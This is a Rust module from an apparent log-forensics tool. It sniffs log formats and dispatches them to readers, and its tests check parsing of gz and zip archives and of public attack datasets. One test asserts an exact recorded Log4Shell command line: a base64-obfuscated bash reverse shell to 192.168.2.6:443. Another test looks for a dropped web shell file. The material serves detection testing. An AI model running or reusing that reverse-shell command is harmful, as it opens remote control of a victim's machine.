//! Telling a log's format from its name and first bytes, and handing it to
//! the reader for that format (through `.gz` and `.zip` when compressed).
//! Packet captures are binary and go to the capture adapter as a stream,
//! never through the text path.

use crate::archive::{self, GZIP_MAGIC, ZIP_MAGIC};
use crate::discover::{log_like_name, LogFile};
use crate::{auditd, combined, errorlog, esxi, evtx, jsonl, pcap, w3c, zeek};
use crate::{Item, ReadError, ReadOptions, ReadStats, Sink};
use ferret_core::LogFormat;
use std::io::{BufRead, BufReader, Cursor, Read, Seek, SeekFrom};

/// How many bytes of a file sniffing looks at.
pub const HEAD_LEN: usize = 64 * 1024;

/// How a file came to be read, which decides whether an unknown format is an
/// error.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Origin {
    /// Named by the user: an unknown format is always an error.
    Given,
    /// Met in a directory walk or inside an archive: an unknown format is an
    /// error only when the name suggests a log.
    Found,
}

/// The format of a file from its name and first bytes (up to [`HEAD_LEN`]):
/// EVTX magic (or an `.evtx` name, so a damaged header is reported by the EVTX
/// reader), pcap/pcapng magic, Zeek TSV (`#separator` first), JSON lines
/// (first non-blank byte `{`: Zeek JSON when the first object has Zeek's keys,
/// else generic), then the text readers' own `looks_like` tests: W3C, auditd,
/// SQL Server ERRORLOG, ESXi shell.log and hostd.log, combined access logs;
/// last, a `.pcap`/`.pcapng` name (so a damaged capture is reported by the
/// capture reader).
pub fn sniff(name: &str, head: &[u8]) -> Option<LogFormat> {
    let lower = name.to_ascii_lowercase();
    if head.starts_with(evtx::MAGIC) || lower.ends_with(".evtx") {
        return Some(LogFormat::Evtx);
    }
    if ferret_net::looks_like_capture(head) {
        return Some(LogFormat::Pcap);
    }
    if zeek::looks_like_tsv(head) {
        return Some(LogFormat::Zeek);
    }
    let body = head.strip_prefix(b"\xef\xbb\xbf").unwrap_or(head);
    if body.iter().find(|b| !b.is_ascii_whitespace()) == Some(&b'{') {
        return Some(if zeek::looks_like_json(body) {
            LogFormat::Zeek
        } else {
            LogFormat::Jsonl
        });
    }
    if w3c::looks_like(head) {
        return Some(LogFormat::W3c);
    }
    if auditd::looks_like(head) {
        return Some(LogFormat::Auditd);
    }
    if errorlog::looks_like(head) {
        return Some(LogFormat::MssqlErrorlog);
    }
    if esxi::looks_like_shell(head) {
        return Some(LogFormat::EsxiShell);
    }
    if esxi::looks_like_hostd(head) {
        return Some(LogFormat::EsxiHostd);
    }
    if combined::looks_like(head) {
        return Some(LogFormat::Combined);
    }
    if lower.ends_with(".pcap") || lower.ends_with(".pcapng") {
        return Some(LogFormat::Pcap);
    }
    None
}

/// Reads one file of any supported kind (plain, `.gz`, `.zip`), sending
/// events and errors to `sink`. Only the head is read for sniffing; text and
/// captures are streamed and EVTX read chunk by chunk, so file size does not
/// bound memory.
pub fn read_file(file: &LogFile, opts: &ReadOptions, sink: &mut Sink<'_>) -> ReadStats {
    let origin = if file.walked {
        Origin::Found
    } else {
        Origin::Given
    };
    let display = file.display.as_str();
    let name = file
        .path
        .file_name()
        .map(|n| n.to_string_lossy().into_owned())
        .unwrap_or_default();
    let mut f = match std::fs::File::open(&file.path) {
        Ok(f) => f,
        Err(e) => return error(display, format!("cannot open: {e}"), sink),
    };
    let head = match read_head(&mut f) {
        Ok(h) => h,
        Err(e) => return error(display, format!("cannot read: {e}"), sink),
    };
    if let Err(e) = f.seek(SeekFrom::Start(0)) {
        return error(display, format!("cannot read: {e}"), sink);
    }
    if head.starts_with(ZIP_MAGIC) || name.to_ascii_lowercase().ends_with(".zip") {
        return archive::read_zip(display, BufReader::new(f), 0, opts, sink);
    }
    if head.starts_with(GZIP_MAGIC) {
        return archive::read_gz(display, strip_gz(&name), f, origin, opts, sink);
    }
    match sniff(&name, &head) {
        Some(LogFormat::Evtx) => evtx::read_path(&file.path, display, sink),
        Some(LogFormat::Pcap) => {
            pcap::read(display, BufReader::with_capacity(HEAD_LEN, f), opts, sink)
        }
        Some(format) => read_text(
            format,
            display,
            BufReader::with_capacity(HEAD_LEN, f),
            opts,
            sink,
        ),
        None => unknown(display, &name, origin, sink),
    }
}

/// Reads a log already in memory (tests, fuzzing): plain, `.gz` or `.zip`,
/// as if named by the user.
pub fn read_bytes(
    display: &str,
    bytes: &[u8],
    opts: &ReadOptions,
    sink: &mut Sink<'_>,
) -> ReadStats {
    let name = display.rsplit(['!', '/', '\\']).next().unwrap_or(display);
    read_in_memory(display, name, bytes, 0, Origin::Given, opts, sink)
}

/// Reads an archive member (`display` is `archive.zip!member`), `depth`
/// archives deep.
pub(crate) fn read_member(
    display: &str,
    name: &str,
    bytes: &[u8],
    depth: u32,
    opts: &ReadOptions,
    sink: &mut Sink<'_>,
) -> ReadStats {
    read_in_memory(display, name, bytes, depth, Origin::Found, opts, sink)
}

fn read_in_memory(
    display: &str,
    name: &str,
    bytes: &[u8],
    depth: u32,
    origin: Origin,
    opts: &ReadOptions,
    sink: &mut Sink<'_>,
) -> ReadStats {
    if bytes.starts_with(ZIP_MAGIC) {
        return archive::read_zip(display, Cursor::new(bytes), depth, opts, sink);
    }
    if bytes.starts_with(GZIP_MAGIC) {
        return archive::read_gz(display, strip_gz(name), bytes, origin, opts, sink);
    }
    let head = &bytes[..bytes.len().min(HEAD_LEN)];
    match sniff(name, head) {
        Some(LogFormat::Evtx) => evtx::read_bytes(display, bytes.to_vec(), sink),
        Some(LogFormat::Pcap) => pcap::read(display, bytes, opts, sink),
        Some(format) => read_text(format, display, bytes, opts, sink),
        None => unknown(display, name, origin, sink),
    }
}

/// Reads a decompressed stream: sniffs its head, then streams text or a
/// capture to its reader, or reads EVTX into memory up to `max_member` bytes.
pub(crate) fn read_stream<R: Read>(
    display: &str,
    name: &str,
    mut r: R,
    origin: Origin,
    opts: &ReadOptions,
    sink: &mut Sink<'_>,
) -> ReadStats {
    let head = match read_head(&mut r) {
        Ok(h) => h,
        Err(e) => return error(display, format!("cannot decompress: {e}"), sink),
    };
    match sniff(name, &head) {
        Some(LogFormat::Evtx) => {
            let mut data = head;
            let room = opts
                .max_member
                .saturating_add(1)
                .saturating_sub(data.len() as u64);
            match r.take(room).read_to_end(&mut data) {
                Err(e) => error(display, format!("cannot decompress: {e}"), sink),
                Ok(_) if data.len() as u64 > opts.max_member => error(
                    display,
                    format!(
                        "EVTX larger than the {}-byte limit for compressed logs, not read",
                        opts.max_member
                    ),
                    sink,
                ),
                Ok(_) => evtx::read_bytes(display, data, sink),
            }
        }
        Some(LogFormat::Pcap) => pcap::read(display, Cursor::new(head).chain(r), opts, sink),
        Some(format) => {
            let joined = BufReader::with_capacity(HEAD_LEN, Cursor::new(head).chain(r));
            read_text(format, display, joined, opts, sink)
        }
        None => unknown(display, name, origin, sink),
    }
}

/// Hands a text log to the reader for `format`.
fn read_text<R: BufRead>(
    format: LogFormat,
    display: &str,
    r: R,
    opts: &ReadOptions,
    sink: &mut Sink<'_>,
) -> ReadStats {
    match format {
        LogFormat::Jsonl => jsonl::read(display, r, opts, sink),
        LogFormat::W3c => w3c::read(display, r, opts, sink),
        LogFormat::Auditd => auditd::read(display, r, opts, sink),
        LogFormat::Combined => combined::read(display, r, opts, sink),
        LogFormat::MssqlErrorlog => errorlog::read(display, r, opts, sink),
        LogFormat::EsxiShell => esxi::read_shell(display, r, opts, sink),
        LogFormat::EsxiHostd => esxi::read_hostd(display, r, opts, sink),
        LogFormat::Zeek => zeek::read(display, r, opts, sink),
        other => error(display, format!("no text reader for format {other}"), sink),
    }
}

/// Up to [`HEAD_LEN`] bytes from the start of `r`.
fn read_head<R: Read>(r: &mut R) -> std::io::Result<Vec<u8>> {
    let mut head = Vec::with_capacity(HEAD_LEN);
    r.take(HEAD_LEN as u64).read_to_end(&mut head)?;
    Ok(head)
}

fn strip_gz(name: &str) -> &str {
    let len = name.len();
    if len > 3 && name.is_char_boundary(len - 3) && name[len - 3..].eq_ignore_ascii_case(".gz") {
        &name[..len - 3]
    } else {
        name
    }
}

fn unknown(display: &str, name: &str, origin: Origin, sink: &mut Sink<'_>) -> ReadStats {
    if origin == Origin::Given || log_like_name(name) {
        error(display, "unknown log format".to_owned(), sink)
    } else {
        ReadStats::default()
    }
}

fn error(display: &str, message: String, sink: &mut Sink<'_>) -> ReadStats {
    let _ = sink(Item::Error(ReadError::file(display, message)));
    ReadStats {
        errors: 1,
        ..ReadStats::default()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::discover::discover;
    use crate::Collected;
    use ferret_core::{Event, Value};
    use std::io::Write;
    use std::ops::ControlFlow;
    use std::path::{Path, PathBuf};

    fn datasets(rel: &str) -> Option<PathBuf> {
        let p = Path::new(env!("CARGO_MANIFEST_DIR"))
            .join("../../../shared/datasets")
            .join(rel);
        if p.exists() {
            Some(p)
        } else {
            println!("skipped: {} not found", p.display());
            None
        }
    }

    fn collect(
        f: impl FnOnce(&mut Sink<'_>) -> ReadStats,
    ) -> (Vec<Event>, Vec<ReadError>, ReadStats) {
        let c = Collected::from_read(f);
        assert_eq!(c.stats.events, c.events.len() as u64);
        assert_eq!(c.stats.errors, c.errors.len() as u64);
        (c.events, c.errors, c.stats)
    }

    fn given(path: &Path) -> LogFile {
        LogFile {
            path: path.to_path_buf(),
            display: path.to_string_lossy().into_owned(),
            size: 0,
            walked: false,
        }
    }

    #[test]
    fn sniffing() {
        assert_eq!(sniff("a", b"ElfFile\0rest"), Some(LogFormat::Evtx));
        assert_eq!(sniff("damaged.EVTX", b"\0\0"), Some(LogFormat::Evtx));
        assert_eq!(
            sniff("x", b"\xef\xbb\xbf \n {\"a\":1}"),
            Some(LogFormat::Jsonl)
        );
        assert_eq!(
            sniff("u_ex.log", b"#Software: Microsoft Internet Information Services 10.0\r\n#Version: 1.0\r\n#Fields: date time cs-uri-stem\r\n"),
            Some(LogFormat::W3c)
        );
        assert_eq!(
            sniff("audit.log", b"type=SYSCALL msg=audit(1700000000.123:4567): arch=c000003e syscall=59 success=yes exe=\"/bin/sh\"\n"),
            Some(LogFormat::Auditd)
        );
        assert_eq!(
            sniff("access", b"10.0.0.1 - - [10/Oct/2000:13:55:36 -0700] \"GET /a HTTP/1.1\" 200 2326 \"-\" \"curl\"\n"),
            Some(LogFormat::Combined)
        );
        assert_eq!(sniff("x.bin", b"\x00\x01garbage"), None);
        assert_eq!(sniff("x", b""), None);
    }

    #[test]
    fn whole_evtx_tree_matches_manifest() {
        let Some(root) = datasets("evtx") else { return };
        let manifest = std::fs::read_to_string(root.join("MANIFEST.tsv")).unwrap();
        let start = std::time::Instant::now();
        let d = discover(std::slice::from_ref(&root));
        assert!(d.errors.is_empty(), "{:?}", d.errors);
        let opts = ReadOptions::default();
        let (mut events, mut errors, mut mismatches) = (0u64, 0u64, Vec::new());
        for file in &d.files {
            let rel = file
                .path
                .strip_prefix(&root)
                .unwrap()
                .to_string_lossy()
                .into_owned();
            let stats = read_file(file, &opts, &mut |_| ControlFlow::Continue(()));
            events += stats.events;
            errors += stats.errors;
            let expected = manifest
                .lines()
                .find(|l| l.split('\t').next() == Some(rel.as_str()))
                .and_then(|l| l.split('\t').nth(5))
                .and_then(|c| c.split(' ').next())
                .and_then(|n| n.parse::<u64>().ok());
            if rel.ends_with(".evtx") && expected != Some(stats.events) {
                mismatches.push((rel, expected, stats.events));
            }
        }
        println!(
            "evtx tree: {} files, {events} events, {errors} errors in {:.2?}",
            d.files.len(),
            start.elapsed()
        );
        assert!(mismatches.is_empty(), "{mismatches:?}");
        assert_eq!(
            d.files
                .iter()
                .filter(|f| f.display.ends_with(".evtx"))
                .count(),
            581
        );
    }

    #[test]
    fn otrf_zips_match_manifest_and_normalize() {
        let Some(dir) = datasets("evtx/other-logs/OTRF-Security-Datasets") else {
            return;
        };
        let opts = ReadOptions::default();
        let read = |name: &str| collect(|sink| read_file(&given(&dir.join(name)), &opts, sink));

        let (ev, er, _) = read("proxylogon_ssrf_rce_poc.zip");
        assert_eq!((ev.len(), er.len()), (10487, 0));
        assert!(ev[0].source.path.ends_with(
            "proxylogon_ssrf_rce_poc.zip!proxylogon_ssrf_rce_poc_2021-03-14T01401970.json"
        ));
        assert_eq!(ev[0].source.line, Some(1));
        let f = &ev[0].fields;
        assert_eq!(f.get("EventID"), Some(&Value::Int(3)));
        assert_eq!(
            f.text("Computer").as_deref(),
            Some("MXS01.azsentinel.local")
        );
        assert_eq!(
            f.text("Provider_Name").as_deref(),
            Some("Microsoft-Windows-Sysmon")
        );
        assert_eq!(
            ev[0].time.map(|t| t.to_rfc3339()).as_deref(),
            Some("2021-03-14T01:39:32.609000Z")
        );
        let shells = ev
            .iter()
            .filter(|e| e.fields.get("EventID") == Some(&Value::Int(11)))
            .filter(|e| {
                e.fields
                    .text("TargetFilename")
                    .is_some_and(|t| t.ends_with("ohyeah.aspx"))
            })
            .count();
        assert!(shells >= 1);

        let (ev, er, _) = read("syslog_sysmon_log4shell_cve2021_44228_jndi_reference.zip");
        assert_eq!((ev.len(), er.len()), (93, 0));
        let f = &ev[0].fields;
        assert_eq!(
            f.text("Channel").as_deref(),
            Some("Linux-Sysmon/Operational")
        );
        assert_eq!(f.get("EventID"), Some(&Value::Int(5)));
        assert_eq!(f.text("Image").as_deref(), Some("wdavdaemon"));
        assert_eq!(f.text("Computer").as_deref(), Some("UBUNTU5"));
        assert!(ev
            .iter()
            .any(|e| e.fields.get("EventID") == Some(&Value::Int(1))
                && e.fields.text("ParentImage").is_some()));

        let (ev, er, _) = read("syslog_auoms_auditd_log4shell_cve2021_44228_jndi_reference.zip");
        assert_eq!((ev.len(), er.len()), (50, 0));
        let f = &ev[0].fields;
        assert_eq!(
            f.get("type"),
            Some(&Value::List(vec![
                "AUOMS_EXECVE".into(),
                "SYSCALL".into(),
                "EXECVE".into()
            ]))
        );
        assert_eq!(
            f.text("exe").as_deref(),
            Some("/usr/lib/jvm/java-8-openjdk-amd64/jre/bin/java")
        );
        assert_eq!(f.text("Image").as_deref(), f.text("exe").as_deref());
        assert_eq!(f.text("comm").as_deref(), Some("http-nio-8080-e"));
        assert_eq!(f.text("uid").as_deref(), Some("1001"));
        assert_eq!(f.text("auid").as_deref(), Some("4294967295"));
        assert_eq!(f.get("serial"), Some(&Value::Int(84138)));
        assert!(ev.iter().any(|e| e.fields.text("CommandLine").as_deref()
            == Some("bash -c \"{echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMTY4LjIuNi80NDMgMD4mMQo=}|{base64,-d}|{bash,-i}\"")));

        let (ev, er, _) = read("sysmon_log4shell_cve2021_44228_java_serialized_object.zip");
        assert_eq!((ev.len(), er.len()), (487, 0));
        let f = &ev[0].fields;
        assert_eq!(
            f.text("Provider_Name").as_deref(),
            Some("Microsoft-Windows-Sysmon")
        );
        assert_eq!(f.text("DestinationPort").as_deref(), Some("8080"));
        assert!(f.text("Image").is_some_and(|i| i.ends_with("tomcat9.exe")));
        assert_eq!(
            ev[0].time.map(|t| t.to_rfc3339()).as_deref(),
            Some("2022-05-13T08:54:05.123000Z")
        );
    }

    fn zip_of(members: &[(&str, &[u8])]) -> Vec<u8> {
        let mut w = zip::ZipWriter::new(Cursor::new(Vec::new()));
        for (name, data) in members {
            let o = zip::write::SimpleFileOptions::default()
                .compression_method(zip::CompressionMethod::Deflated);
            w.start_file(*name, o).unwrap();
            w.write_all(data).unwrap();
        }
        w.finish().unwrap().into_inner()
    }

    fn gz_of(data: &[u8]) -> Vec<u8> {
        let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
        e.write_all(data).unwrap();
        e.finish().unwrap()
    }

    #[test]
    fn gz_and_zip_members() {
        let json = b"{\"EventID\":1,\"Image\":\"a\"}\n{\"EventID\":2}\n".as_slice();
        let dir = tempfile::tempdir().unwrap();
        let gz = dir.path().join("x.json.gz");
        std::fs::write(&gz, gz_of(json)).unwrap();
        let (ev, er, stats) = collect(|s| read_file(&given(&gz), &ReadOptions::default(), s));
        assert_eq!((ev.len(), er.len(), stats.bytes), (2, 0, json.len() as u64));
        assert_eq!(ev[1].source.line, Some(2));

        let big = vec![b'{'; 5000];
        let inner = zip_of(&[("deep.json", json)]);
        let archive = zip_of(&[
            ("dir/a.json", json),
            ("big.json", &big),
            ("lib.dll", b"MZ"),
            ("inner.zip", &inner),
            ("b.json.gz", &gz_of(json)),
            ("notes.txt", b"\x00\x01binary"),
        ]);
        let opts = ReadOptions {
            max_member: 4096,
            ..ReadOptions::default()
        };
        let (ev, er, _) = collect(|s| read_bytes("t.zip", &archive, &opts, s));
        let paths: Vec<&str> = ev.iter().map(|e| e.source.path.as_str()).collect();
        assert_eq!(
            paths,
            [
                "t.zip!dir/a.json",
                "t.zip!dir/a.json",
                "t.zip!inner.zip!deep.json",
                "t.zip!inner.zip!deep.json",
                "t.zip!b.json.gz",
                "t.zip!b.json.gz"
            ]
        );
        let errs: Vec<(&str, &str)> = er
            .iter()
            .map(|e| (e.path.as_str(), e.message.as_str()))
            .collect();
        assert_eq!(errs.len(), 2, "{errs:?}");
        assert_eq!(errs[0].0, "t.zip!big.json");
        assert!(errs[0].1.contains("larger than the 4096-byte limit"));
        assert_eq!(errs[1], ("t.zip!notes.txt", "unknown log format"));

        // Two levels of nesting: the inner archive is refused.
        let nested = zip_of(&[("mid.zip", &archive)]);
        let (ev, er, _) = collect(|s| read_bytes("n.zip", &nested, &opts, s));
        // mid.zip is opened; archives inside it (inner.zip, b.json.gz) are not.
        assert_eq!(ev.len(), 2);
        assert_eq!(ev[0].source.path, "n.zip!mid.zip!dir/a.json");
        assert!(er
            .iter()
            .any(|e| e.path == "n.zip!mid.zip!inner.zip" && e.message.contains("nested too deep")));

        // A broken central directory is one error for the file.
        let (ev, er, _) =
            collect(|s| read_bytes("b.zip", &archive[..archive.len() - 30], &opts, s));
        assert_eq!((ev.len(), er.len()), (0, 1));
        // A corrupt gzip stream: an error, no panic.
        let mut bad = gz_of(json);
        let n = bad.len();
        bad[12..n - 4].fill(0xff);
        let (_, er, _) = collect(|s| read_bytes("c.gz", &bad, &opts, s));
        assert!(!er.is_empty());
    }

    #[test]
    fn evtx_inside_gz_is_capped() {
        let Some(p) = datasets(
            "evtx/EVTX-ATTACK-SAMPLES/Privilege Escalation/System_7045_namedpipe_privesc.evtx",
        ) else {
            return;
        };
        let data = std::fs::read(&p).unwrap();
        let gz = gz_of(&data);
        let (ev, er, _) = collect(|s| read_bytes("s.evtx.gz", &gz, &ReadOptions::default(), s));
        assert_eq!((ev.len(), er.len()), (1, 0));
        assert_eq!(ev[0].source.path, "s.evtx.gz");
        let small = ReadOptions {
            max_member: 10_000,
            ..ReadOptions::default()
        };
        let (ev, er, _) = collect(|s| read_bytes("s.evtx.gz", &gz, &small, s));
        assert_eq!((ev.len(), er.len()), (0, 1));
    }

    #[test]
    fn unknown_files_given_or_walked() {
        let dir = tempfile::tempdir().unwrap();
        std::fs::write(dir.path().join("blob.dat"), b"\x00\x01\x02").unwrap();
        std::fs::write(dir.path().join("app.log"), b"\x00\x01\x02").unwrap();
        let d = discover(&[dir.path().to_path_buf()]);
        let (_, er, _) = collect(|s| {
            let mut all = ReadStats::default();
            for f in &d.files {
                all.add(read_file(f, &ReadOptions::default(), s));
            }
            all
        });
        assert_eq!(er.len(), 1);
        assert!(er[0].path.ends_with("app.log"));
        let (_, er, _) = collect(|s| {
            read_file(
                &given(&dir.path().join("blob.dat")),
                &ReadOptions::default(),
                s,
            )
        });
        assert_eq!(er[0].message, "unknown log format");
    }

    #[test]
    fn huge_single_line_is_streamed() {
        let dir = tempfile::tempdir().unwrap();
        let p = dir.path().join("big.json");
        let mut f = std::fs::File::create(&p).unwrap();
        f.write_all(b"{\"a\":\"").unwrap();
        let block = vec![b'x'; 1 << 20];
        for _ in 0..64 {
            f.write_all(&block).unwrap();
        }
        f.write_all(b"\"}\n{\"b\":1}\n").unwrap();
        drop(f);
        let opts = ReadOptions {
            max_line: 4096,
            ..ReadOptions::default()
        };
        let (ev, er, _) = collect(|s| read_file(&given(&p), &opts, s));
        assert_eq!((ev.len(), er.len()), (1, 1));
        assert_eq!(er[0].line, Some(1));
        assert_eq!(ev[0].source.line, Some(2));
    }

    #[test]
    fn stop_when_the_sink_says_so() {
        let json = b"{\"a\":1}\n{\"a\":2}\n{\"a\":3}\n".as_slice();
        let archive = zip_of(&[("a.json", json), ("b.json", json)]);
        let mut seen = 0;
        read_bytes("s.zip", &archive, &ReadOptions::default(), &mut |_| {
            seen += 1;
            if seen == 2 {
                ControlFlow::Break(())
            } else {
                ControlFlow::Continue(())
            }
        });
        assert_eq!(seen, 2);
    }
}
